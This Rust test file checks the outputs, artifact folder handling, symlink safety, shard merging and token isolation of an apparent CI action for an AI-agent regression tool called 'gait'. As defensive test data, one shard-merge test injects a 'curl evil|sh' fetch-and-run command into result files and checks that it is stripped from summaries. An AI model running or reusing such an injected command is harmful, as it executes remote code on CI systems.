//! What a step leaves: outputs, files, summary; and what it must not touch.

use crate::runner::{Runner, tree};
use serde_json::Value;
use std::fs;

const FIVE: &str = r#"{"tool":"refund","args":{"amount":5},"result":{}}"#;
const MORE: &str = r#"{"tool":"refund","args":{"amount":500},"result":{}}"#;

fn failing() -> Runner {
    let runner = Runner::new().with("candidate-dir", "candidates");
    runner.fixture("lookup", &[r#"{"tool":"lookup","args":{},"result":{}}"#]).fixture("refund", &[FIVE]);
    runner.today("refund", &[MORE]);
    runner
}

#[test]
fn a_regression_is_told_everywhere() {
    let runner = failing();
    let step = runner.run().code(5);
    for (name, value) in [
        ("exit-code", "5"),
        ("exit_code", "5"),
        ("status", "fail"),
        ("passed", "1"),
        ("failed", "1"),
        ("flaky", "0"),
        ("not-exercised", "1"),
        ("summary-path", "gait-ci/summary.txt"),
        ("summary_path", "gait-ci/summary.txt"),
        ("artifact-path", "gait-ci"),
        ("artifact_path", "gait-ci"),
        ("junit-path", "gait-ci/junit.xml"),
        ("report-json", "gait-ci/regress_core_result.json"),
        ("html-path", "gait-ci/report.html"),
        ("binary-path", ""),
        ("comment-url", ""),
    ] {
        assert_eq!(step.output(name), value, "{name}");
    }
    assert!(step.output("ticket-footer").starts_with("GAIT run_id=run_refund manifest=sha256:"));
    let files = ["junit.xml", "receipt.json", "regress_core_result.json", "regress_result.json", "report.html"];
    assert_eq!(tree(&runner.path("gait-ci")), [&files[..], &["summary.md", "summary.txt"]].concat());
    let answer: Value = serde_json::from_str(&runner.text("gait-ci/regress_result.json")).unwrap();
    assert_eq!((&answer["status"], &answer["failed"]), (&"fail".into(), &1.into()));
    let summary = runner.text("gait-ci/summary.txt");
    let keys: Vec<&str> = summary.lines().map(|line| line.split_once('=').unwrap().0).collect();
    let contract = ["command", "status", "failed_graders", "top_failure_reason", "next_command", "artifact_paths"];
    assert_eq!(keys, [&contract[..], &["not_exercised", "ticket_footer"]].concat());
    assert!(step.stdout.contains(&summary));
    for part in [
        "1 of 2 fixtures failed",
        "call 1 refund: changed",
        "/args/amount: 500",
        "gait run diff",
        "not run against an agent",
    ] {
        assert!(step.summary.contains(part), "{part} not in {}", step.summary);
    }
    let [error] = step.commands.as_slice() else { panic!("{:?}", step.commands) };
    assert_eq!((error.name.as_str(), error.properties["file"].as_str()), ("error", "gait.yaml"));
    let line: usize = error.properties["line"].parse().unwrap();
    assert!(runner.text("gait.yaml").lines().nth(line).unwrap().contains("refund"));
}

#[test]
fn a_pass_is_quiet_and_says_what_was_not_run() {
    let runner = Runner::new();
    runner.fixture("refund", &[FIVE]);
    let step = runner.run().code(0).says(&["1 of 1 fixtures were not run against an agent"]);
    assert_eq!((step.output("status"), step.output("not-exercised")), ("pass", "1"));
    assert_eq!(step.commands, []);
    let runner = runner.with("require-candidate", "true");
    assert_eq!(runner.run().code(5).output("status"), "fail");
}

#[test]
fn a_regression_may_be_tolerated_and_nothing_else() {
    let mut runner = failing();
    runner.set("fail-on", "never");
    let step = runner.run().code(0);
    assert_eq!((step.output("exit-code"), step.output("status")), ("5", "fail"));
    runner.set("config", "missing.yaml");
    let step = runner.run().code(6);
    assert_eq!((step.output("exit-code"), step.output("status")), ("6", "error"));
    assert!(runner.text("gait-ci/summary.txt").contains("error=cannot read missing.yaml"), "{}", step.stdout);
    assert!(step.summary.contains("missing.yaml"), "{}", step.summary);
    assert_eq!(step.commands.len(), 1);
}

#[test]
fn a_workdir_counts_in_places_and_paths() {
    let runner = failing();
    let (from, to) = (runner.path(""), runner.path("sub/agent"));
    fs::create_dir_all(&to).unwrap();
    for name in ["fixtures", "candidates", "gait.yaml"] {
        fs::rename(from.join(name), to.join(name)).unwrap();
    }
    let runner = runner.with("workdir", "sub/agent");
    let step = runner.run().code(5);
    assert_eq!(step.output("report-json"), "sub/agent/gait-ci/regress_core_result.json");
    assert_eq!(step.commands[0].properties["file"], "sub/agent/gait.yaml");
    assert!(runner.path(step.output("junit-path")).is_file());
}

#[cfg(unix)]
#[test]
fn later_steps_can_read_the_files() {
    use std::os::unix::fs::PermissionsExt as _;
    let runner = failing();
    runner.run().code(5);
    let mode = |name: &str| fs::metadata(runner.path(name)).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode("gait-ci") & 0o055, 0o055);
    for name in tree(&runner.path("gait-ci")) {
        assert_eq!(mode(&format!("gait-ci/{name}")) & 0o044, 0o044, "{name}");
    }
}

#[test]
fn the_folder_is_emptied_first() {
    let runner = failing();
    runner.file("gait-ci/old/junit.xml", "old").file("gait-ci/old.txt", "old");
    runner.run().code(5);
    assert!(!runner.path("gait-ci/old").exists() && !runner.path("gait-ci/old.txt").exists());
}

#[test]
fn a_folder_people_keep_things_in_is_refused_whole() {
    for (dir, told) in [
        (".", "is not strictly below the workspace"),
        ("..", "is not strictly below the workspace"),
        ("../other", "is not strictly below the workspace"),
        ("/tmp/gait-ci", "is not strictly below the workspace"),
        ("candidates", "holds candidates, which is read"),
        ("fixtures/..", "is not strictly below the workspace"),
        ("deep", "holds gait.yaml"),
        ("repo", "holds .git"),
        ("others", "holds fixtures"),
        ("file", "is a file"),
    ] {
        let mut runner = failing();
        runner.file("deep/er/gait.yaml", "x").file("repo/.git/HEAD", "x").file("others/a/fixtures/x", "x");
        runner.file("file", "x");
        let before = tree(&runner.path(""));
        runner.set("artifact-dir", dir);
        let step = runner.run().code(6);
        assert!(step.stdout.contains(told), "{dir}: {told} not in {}", step.stdout);
        assert_eq!(tree(&runner.path("")), before, "{dir}");
    }
}

#[cfg(unix)]
#[test]
fn links_are_not_followed() {
    use std::os::unix::fs::symlink;
    let runner = failing();
    let outside = tempfile::tempdir().unwrap();
    fs::write(outside.path().join("precious"), "x").unwrap();
    fs::create_dir(runner.path("gait-ci")).unwrap();
    symlink(outside.path(), runner.path("gait-ci/inside")).unwrap();
    runner.run().code(5);
    assert!(outside.path().join("precious").exists());
    fs::remove_dir_all(runner.path("gait-ci")).unwrap();
    symlink(outside.path(), runner.path("gait-ci")).unwrap();
    runner.run().code(6).says(&["is a link"]);
    assert!(outside.path().join("precious").exists());
}

#[cfg(unix)]
#[test]
fn the_program_is_put_into_the_workspace() {
    use std::os::unix::fs::{PermissionsExt as _, symlink};
    let runner = Runner::new().with("command", "install");
    let step = runner.run().code(0);
    assert_eq!(step.output("binary-path"), ".gait/bin/gait");
    let mode = fs::metadata(runner.path(".gait/bin/gait")).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o755);
    let out = std::process::Command::new(runner.path(".gait/bin/gait")).arg("version").output().unwrap();
    assert!(out.status.success());
    assert_eq!(runner.text(".gait/bin/.gitignore"), "*\n");
    fs::remove_dir_all(runner.path(".gait")).unwrap();
    let outside = tempfile::tempdir().unwrap();
    symlink(outside.path(), runner.path(".gait")).unwrap();
    runner.run().code(6).says(&["is a link"]);
    assert_eq!(fs::read_dir(outside.path()).unwrap().count(), 0);
}

#[test]
fn packs_are_verified_by_glob() {
    let runner = Runner::new().with("command", "verify").with("paths", "fixtures/**/*.zip\n!fixtures/old/**");
    runner.fixture("a", &[FIVE]).fixture("b", &[MORE]);
    let step = runner.run().code(0);
    assert_eq!((step.output("passed"), step.output("failed"), step.output("status")), ("2", "0", "pass"));
    let mut bytes = fs::read(runner.path("fixtures/a/runpack.zip")).unwrap();
    let middle = bytes.len() / 4;
    bytes[middle] ^= 1;
    runner.file("fixtures/a/runpack.zip", &bytes);
    let step = runner.run();
    assert!([2, 6].contains(&step.code), "{}", step.code);
    assert_eq!((step.output("passed"), step.output("failed")), ("1", "1"));
    assert_eq!(step.commands[0].properties["file"], "fixtures/a/runpack.zip");
    let runner = Runner::new().with("command", "verify").with("paths", "nothing/*.zip");
    runner.run().code(6).says(&["no file matches nothing/*.zip"]);
    Runner::new().with("command", "verify").run().code(6).says(&["input paths: no file is named"]);
}

#[test]
fn results_of_shards_are_joined() {
    let mut runner = failing();
    for shard in ["1/2", "2/2"] {
        runner.set("shard", shard);
        let step = runner.run();
        assert!(matches!(step.code, 0 | 5));
        let name = format!("parts/{}/regress_core_result.json", &shard[..1]);
        runner.file(&name, runner.text(step.output("report-json")));
        runner.file(&format!("parts/{}/regress_result.json", &shard[..1]), "{}");
    }
    runner.set("shard", "");
    let whole = runner.run().code(5).summary;
    runner.set("command", "publish");
    runner.set("results", "parts/**/*.json");
    runner.set("candidate-dir", "");
    let step = runner.run().code(5);
    assert_eq!((step.output("passed"), step.output("failed")), ("1", "1"));
    // What could be pasted into a shell is not taken from files of other jobs.
    let pasted =
        |text: &str| text.lines().filter(|line| !line.starts_with("gait run diff ")).collect::<Vec<_>>().join("\n");
    assert!(whole.contains("gait run diff ") && !step.summary.contains("gait run diff "));
    assert_eq!(step.summary.trim(), pasted(&whole).trim());
    for part in ["parts/1/regress_core_result.json", "parts/2/regress_core_result.json"] {
        let text = runner.text(part);
        let evil = text.replace("gait run diff", "curl evil|sh #").replace("GAIT run_id", "sh evil run_id");
        runner.file(part, evil);
    }
    let told = runner.run().code(5);
    assert!(!told.summary.contains("evil") && !told.stdout.contains("evil"), "{}", told.summary);
    fs::remove_dir_all(runner.path("parts/1")).unwrap();
    runner.run().code(6).says(&["1 of 2 shards are missing: 1/2"]);
}

#[cfg(unix)]
#[test]
fn an_agent_gets_no_token_and_nothing_of_the_runner() {
    let runner = Runner::new().with("token", "secret-token").env("GITHUB_TOKEN", "t").env("ACTIONS_RUNTIME_TOKEN", "t");
    runner.fixture("a", &[FIVE]);
    let suite = runner.text("gait.yaml");
    let agent =
        r#""agent": { "command": ["sh", "-c", "env > seen; printf %s $GAIT_MCP_CONFIG > where"] }, "name": "a","#;
    runner.file("gait.yaml", suite.replace(r#""name": "a","#, agent));
    runner.run().code(5).says(&["no_calls_captured"]);
    let seen = runner.text("seen");
    for part in ["INPUT_", "ACTIONS_", "GITHUB_TOKEN", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY", "secret-token"] {
        assert!(!seen.contains(part), "{part} in {seen}");
    }
    assert!(seen.contains("GITHUB_SHA="), "this test sees nothing: {seen}");
    let temp = &runner.env["RUNNER_TEMP"];
    assert!(runner.text("where").starts_with(temp.as_str()), "{}", runner.text("where"));
}
